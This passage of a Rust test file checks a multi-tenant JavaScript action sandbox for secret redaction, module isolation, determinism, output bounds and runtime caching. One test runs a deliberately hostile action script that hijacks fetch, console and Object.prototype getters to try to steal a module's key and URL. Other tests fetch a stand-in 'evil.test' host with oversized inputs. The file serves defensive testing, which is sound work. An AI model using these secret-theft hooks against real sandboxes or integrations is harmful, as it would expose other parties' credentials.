  api.state.set('nested', { [s.TOKEN]: [s.TOKEN] });
  try { api.log(s.LEVEL, 'x'); } catch (e) { api.log('warn', e.message); }
};"#,
    );
    source.secrets = BTreeMap::from([
        ("TOKEN".to_owned(), token.to_owned()),
        ("METHOD".to_owned(), method.to_owned()),
        ("LEVEL".to_owned(), level.to_owned()),
        ("IN_URL".to_owned(), in_url.to_owned()),
    ]);
    let fetch = FetchPolicy {
        allow_prefixes: vec!["https://api.example.com/".to_owned()],
        responses: BTreeMap::new(),
    };
    let outcome = run_with("tenant-a", &source, &us_user(), &tight_limits(), &fetch);
    assert_eq!(outcome.fetches.len(), 2, "{:?}", outcome.fetches);
    assert_eq!(outcome.fetches[0].method, "[redacted:METHOD]");
    assert!(outcome.fetches[1].url.ends_with("[redacted:IN_URL]"));
    // The refused fetch is the first breach; the unknown level is api misuse after it.
    assert_limit(&outcome, LimitKind::FetchNotAllowed);
    for secret in [token, method, level, in_url] {
        assert_absent(&outcome, secret);
        // No part of a secret survives a cut either (the level is quoted shortened).
        assert_absent(&outcome, &secret[..12]);
    }
    // The escaped forms are gone as well as the raw one.
    assert_absent(&outcome, "tok\\\"en");
    assert_absent(&outcome, "tok%22en");
    assert!(
        outcome
            .logs
            .iter()
            .all(|line| !line.message.contains("tok")),
        "{:?}",
        outcome.logs
    );

    // An object thrown with a secret in it, and the same as an unhandled rejection.
    for (slug, body) in [
        ("secret-thrown", "throw { t: event.secrets.TOKEN };"),
        (
            "secret-unhandled",
            "Promise.reject(new Error(JSON.stringify({ t: event.secrets.TOKEN }))); await new Promise(() => {});",
        ),
    ] {
        let mut source = action(
            slug,
            &format!("exports.handler = async (event, api) => {{ {body} }};"),
        );
        source.secrets = BTreeMap::from([("TOKEN".to_owned(), token.to_owned())]);
        let outcome = run(&source, &us_user());
        assert!(outcome.failure.is_some(), "{slug}");
        assert_absent(&outcome, "tok\"en");
        assert_absent(&outcome, "tok\\\"en");
        assert_absent(&outcome, "tok\\\\\\\"en");
    }
}

#[test]
fn modules_reach_fetch_and_their_secrets_through_bindings_the_action_cannot_replace() {
    let module = ModuleSource {
        name: "svc".to_owned(),
        version: "1".to_owned(),
        file_name: "v1.js".to_owned(),
        code: r#"module.exports = {
  send: async () => {
    const res = await fetch(actions.secrets.URL + '?k=' + actions.secrets.KEY, {
      method: 'POST',
      headers: { 'X-Key': actions.secrets.KEY },
      body: 'k=' + actions.secrets.KEY,
    });
    console.log('sent with ' + actions.secrets.KEY);
    return res.status;
  },
};"#
        .to_owned(),
        secrets: BTreeMap::from([
            ("URL".to_owned(), "https://svc.example/ingest".to_owned()),
            ("KEY".to_owned(), "module-key-9d7e".to_owned()),
        ]),
        packages: Vec::new(),
        requires: BTreeMap::new(),
    };
    // Everything the action manages to see is kept reversed, so redaction cannot hide a leak
    // from this test.
    let mut source = action(
        "wraps-fetch",
        r#"const svc = require('actions:svc');
const seen = [];
const steal = (value) => {
  let text;
  try { text = JSON.stringify(value); } catch (e) { text = String(value); }
  seen.push(String(text).split('').reverse().join(''));
};
const realFetch = globalThis.fetch;
try { globalThis.fetch = (...args) => { steal(args); return realFetch(...args); }; } catch (e) {}
try { Object.defineProperty(globalThis, 'fetch', { value: (...args) => { steal(args); return realFetch(...args); } }); } catch (e) {}
try { fetch = (...args) => { steal(args); return realFetch(...args); }; } catch (e) {}
try { console.log = (...args) => steal(args); } catch (e) {}
try { globalThis.console = { log: (...args) => steal(args) }; } catch (e) {}
for (const name of ['then', 'url', 'method', 'body', 'headers']) {
  Object.defineProperty(Object.prototype, name, {
    get() { steal(this); return undefined; }, set(v) { steal(v); }, configurable: true,
  });
}
exports.handler = async (event, api) => {
  const status = await svc.send();
  for (const name of ['then', 'url', 'method', 'body', 'headers']) delete Object.prototype[name];
  api.state.set('status', status);
  api.state.set('seen', seen);
};"#,
    );
    source.modules.push(module);
    let fetch = FetchPolicy {
        allow_prefixes: vec!["https://svc.example/".to_owned()],
        responses: BTreeMap::from([(
            "https://svc.example/ingest?k=module-key-9d7e".to_owned(),
            RecordedResponse {
                status: 202,
                headers: BTreeMap::new(),
                body: String::new(),
            },
        )]),
    };
    let outcome = run_with("tenant-a", &source, &us_user(), &tight_limits(), &fetch);
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "status"), Some(json!(202)));
    let seen = state(&outcome, "seen").unwrap_or(Value::Null).to_string();
    for secret in ["module-key-9d7e", "https://svc.example/ingest"] {
        let reversed: String = secret.chars().rev().collect();
        assert!(
            !seen.contains(&reversed),
            "the action saw the module's {secret}: {seen}"
        );
    }
    assert_eq!(outcome.fetches.len(), 1);
    assert_eq!(outcome.fetches[0].url, "[redacted:URL]?k=[redacted:KEY]");
    assert_eq!(outcome.logs[0].message, "sent with [redacted:KEY]");
}

// --- Determinism ------------------------------------------------------------------------------

#[test]
fn math_random_is_seeded_per_run_from_the_event_and_clock() {
    let code = "exports.handler = async (event, api) => { api.state.set('r', [Math.random(), Math.random(), Math.random()]); };";
    let source = action("random", code);
    let draws = |tenant: &str, event: &Value, clock_ms: i64| {
        let outcome = engine().run(
            tenant,
            &source,
            ActionInput {
                event,
                limits: &tight_limits(),
                fetch: &FetchPolicy::default(),
                clock_ms,
            },
        );
        assert_ok(&outcome);
        state(&outcome, "r").unwrap_or(Value::Null)
    };
    let first = draws("tenant-r1", &us_user(), 1);
    // A warm runtime and another tenant's cold runtime draw the same numbers for the same run.
    assert_eq!(draws("tenant-r1", &us_user(), 1), first);
    assert_eq!(draws("tenant-r2", &us_user(), 1), first);
    assert_ne!(draws("tenant-r1", &us_user(), 2), first);
    assert_ne!(draws("tenant-r1", &json!({ "other": true }), 1), first);
    let numbers: Vec<f64> = first
        .as_array()
        .map(|items| items.iter().filter_map(Value::as_f64).collect())
        .unwrap_or_default();
    assert_eq!(numbers.len(), 3);
    assert!(
        numbers.iter().all(|n| (0.0..1.0).contains(n)),
        "{numbers:?}"
    );
    assert!(numbers[0] != numbers[1] && numbers[1] != numbers[2]);
}

// --- Bounds on everything a run hands back ----------------------------------------------------

/// Asserts that `outcome` serialises (as traces store it) to fewer than `bytes`.
fn assert_smaller_than(outcome: &ActionOutcome, bytes: usize, slug: &str) {
    let size = serde_json::to_string(outcome).map_or(usize::MAX, |text| text.len());
    assert!(size < bytes, "{slug}: the outcome is {size} bytes");
}

#[test]
fn everything_a_run_hands_back_is_bounded() {
    use authflow::js::{FAILURE_MESSAGE_BYTES, RECORDED_URL_BYTES};
    // Twenty refused 4 MiB URLs, then a 4 MiB thrown message; enough CPU for the strings.
    let limits = Limits {
        cpu_ms: 10_000,
        heap_bytes: 64 << 20,
        ..tight_limits()
    };
    let outcome = run_with(
        "tenant-a",
        &action(
            "bounded-fetch",
            "exports.handler = async () => {
const big = 'https://evil.test/' + 'x'.repeat(4 << 20);
for (let i = 0; i < 20; i++) { try { await fetch(big); } catch (e) {} }
throw new Error('m'.repeat(4 << 20));
};",
        ),
        &us_user(),
        &limits,
        &FetchPolicy::default(),
    );
    assert_limit(&outcome, LimitKind::FetchNotAllowed);
    assert_eq!(outcome.fetches.len(), Limits::default().fetch_count + 1);
    for record in &outcome.fetches {
        assert!(
            record.url.len() <= RECORDED_URL_BYTES + 64,
            "{}",
            record.url.len()
        );
    }
    assert_smaller_than(&outcome, 64 * 1024, "bounded-fetch");

    for (slug, body) in [
        ("bounded-throw", "throw new Error('m'.repeat(4 << 20));"),
        ("bounded-value", "throw 'v'.repeat(4 << 20);"),
        (
            "bounded-unhandled",
            "Promise.reject(new Error('u'.repeat(4 << 20))); await new Promise(() => {});",
        ),
        ("bounded-top", "throw new Error('t'.repeat(4 << 20));"),
        (
            "bounded-method",
            "try { await fetch('https://evil.test/', { method: 'm'.repeat(4 << 20) }); } catch (e) {}",
        ),
        ("bounded-level", "api.log('l'.repeat(4 << 20), 'x');"),
    ] {
        let outcome = probe(slug, body);
        let failure = outcome
            .failure
            .as_ref()
            .unwrap_or_else(|| panic!("{slug}: no failure"));
        assert!(
            failure.message.len() <= FAILURE_MESSAGE_BYTES + 64,
            "{slug}: a message of {} bytes",
            failure.message.len()
        );
        assert_smaller_than(&outcome, 16 * 1024, slug);
    }
}

#[test]
fn no_budget_can_abort_the_engine() {
    for heap_bytes in [0, 60_000, 1 << 20, usize::MAX] {
        let limits = Limits {
            heap_bytes,
            cpu_ms: 0,
            wall_ms: u64::MAX,
            log_lines: usize::MAX,
            ..tight_limits()
        };
        let outcome = run_with(
            "tenant-a",
            &action(
                "tiny-heap",
                "exports.handler = async (e, api) => { api.log('info', 'ran'); };",
            ),
            &us_user(),
            &limits,
            &FetchPolicy::default(),
        );
        // The budgets are clamped into their documented ranges: the run is judged, never
        // aborted (a CPU budget of 0 becomes 1 ms, which a loaded machine may exceed).
        assert!(
            outcome.failure.is_none()
                || failure_kind(&outcome) == Some(FailureKind::Limit(LimitKind::CpuTime)),
            "heap_bytes {heap_bytes}: {:?}",
            outcome.failure
        );
    }
    for (field, value) in [
        ("heap_bytes", json!(60_000)),
        ("heap_bytes", json!(1_u64 << 40)),
        ("cpu_ms", json!(0)),
        ("wall_ms", json!(1_u64 << 40)),
        ("log_bytes", json!(1_u64 << 40)),
    ] {
        let parsed = serde_json::from_value::<Limits>(json!({ field: value }));
        let message = parsed.err().map(|e| e.to_string()).unwrap_or_default();
        assert!(
            message.contains(field),
            "{field} = {value} was accepted ({message})"
        );
    }
    let range = Limits::RANGES
        .iter()
        .find(|range| range.field == "heap_bytes")
        .copied();
    assert_eq!(range.map(|r| (r.min, r.max)), Some((8 << 20, 4 << 30)));
}

#[test]
fn long_string_searches_and_sorts_give_the_native_results() {
    // Sizes past the point where the engine drives the search or sort from script in short
    // native steps (so a termination can stop it); the answers must be the native ones (the
    // expected values are Node's for the same script).
    let limits = Limits {
        cpu_ms: 30_000,
        wall_ms: 120_000,
        ..tight_limits()
    };
    let code = r#"exports.handler = async (event, api) => {
const h = 'ab'.repeat(2e5) + 'xyz' + 'ab'.repeat(10);
const n = 'ab'.repeat(200) + 'x';
api.state.set('search', [h.indexOf(n), h.lastIndexOf(n), h.includes(n), h.indexOf(n, 1e9),
  h.lastIndexOf(n, -5), h.indexOf(n, 399601), h.lastIndexOf(n, 399599), new String(h).indexOf(n)]);
api.state.set('split', [h.split(n).map((p) => p.length), h.split(n, 1).length, h.split(n, 0).length]);
api.state.set('replace', [h.replace(n, '[$&|$`|$$|$1]').length, h.replace(n, (m, at, all) => `${m.length}@${at}/${all.length}`).slice(399600, 399620),
  h.replaceAll(n, 'R').length, (h + n).replaceAll(n, () => 'R').slice(-3)]);
api.state.set('lengths', [String.prototype.indexOf.length, String.prototype.split.length, Array.prototype.sort.length]);
const numbers = Array.from({ length: 20000 }, (_, i) => 20000 - i);
api.state.set('sort', [numbers.slice().sort().slice(0, 4), numbers.slice().sort((a, b) => a - b).slice(0, 2),
  [...new Float64Array(Array.from({ length: 20000 }, (_, i) => [NaN, -0, 0, 3, -1][i % 5])).sort()].slice(3998, 4003).map((x) => Object.is(x, -0) ? '-0' : String(x)),
  Array.from({ length: 20000 }, (_, i) => (i % 3 === 0 ? undefined : String(i % 7))).sort().slice(13330, 13336)]);
try { h.includes(/x/); api.state.set('regexp', 'accepted'); } catch (e) { api.state.set('regexp', e.constructor.name); }
};"#;
    let outcome = run_with(
        "tenant-a",
        &action("guarded-natives", code),
        &us_user(),
        &limits,
        &FetchPolicy::default(),
    );
    assert_ok(&outcome);
    assert_eq!(
        state(&outcome, "search"),
        Some(json!([399600, 399600, true, -1, -1, -1, -1, 399600]))
    );
    assert_eq!(state(&outcome, "split"), Some(json!([[399600, 22], 1, 0])));
    assert_eq!(
        state(&outcome, "replace"),
        Some(json!([799631, "401@399600/400023yza", 399623, "abR"]))
    );
    assert_eq!(state(&outcome, "lengths"), Some(json!([1, 2, 1])));
    assert_eq!(
        state(&outcome, "sort"),
        Some(json!([
            [1, 10, 100, 1000],
            [1, 2],
            ["-1", "-1", "-0", "-0", "-0"],
            ["6", "6", "6", null, null, null]
        ]))
    );
    assert_eq!(state(&outcome, "regexp"), Some(json!("TypeError")));
}

#[test]
fn the_pool_stops_refilling_once_the_expected_first_runs_have_their_runtimes() {
    let engine = pooled_engine(4);
    let wait = std::time::Duration::from_secs(30);
    // Two first runs are expected: the pooled runtime counts as one, so one more may start.
    assert_eq!(engine.prewarm(wait), 1);
    engine.expect_first_runs(2);
    assert_ok(&run_on(&engine, &action("first", LOG_USER)));
    assert_eq!(
        engine.prewarm(wait),
        1,
        "the second expected run has a runtime waiting"
    );
    assert_ok(&run_on(&engine, &action("second", LOG_USER)));
    assert_eq!(
        engine.prewarm(wait),
        0,
        "nobody is expected to take another runtime"
    );
    // A first run past the guess still runs, on a runtime it starts itself.
    assert_ok(&run_on(&engine, &action("third", LOG_USER)));
    assert_eq!(engine.cached_runtimes(), 3);
}

/// The runtime threads of this process whose name starts with `prefix` (names are cut to 15
/// bytes by the kernel).
fn runtime_threads(prefix: &str) -> usize {
    let Ok(tasks) = std::fs::read_dir("/proc/self/task") else {
        return 0;
    };
    tasks
        .filter_map(|task| std::fs::read_to_string(task.ok()?.path().join("comm")).ok())
        .filter(|name| name.starts_with(prefix))
        .count()
}

#[test]
fn evicted_runtimes_end_after_the_run_that_replaced_them() {
    // A cache of two, no pool: each new action evicts the least recently used runtime, which
    // ends once the run that needed the room is over.
    let engine = match Engine::new(EngineConfig {
        max_runtimes: 2,
        warm_runtimes: 0,
        ..EngineConfig::default()
    }) {
        Ok(engine) => engine,
        Err(error) => panic!("engine: {error}"),
    };
    for round in 0..2 {
        for k in 0..5 {
            let outcome = run_on(&engine, &action(&format!("evict-{k}"), LOG_USER));
            assert_ok(&outcome);
            assert_eq!(
                outcome.state_writes.len(),
                2,
                "round {round}, action {k}: a rebuilt runtime runs the action in full"
            );
            assert!(engine.cached_runtimes() <= 2, "the cache holds at most two");
        }
    }
    // The evicted threads end on their own; at most the two cached ones stay.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while runtime_threads("action-evict-") > 2 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(runtime_threads("action-evict-"), 2);
}
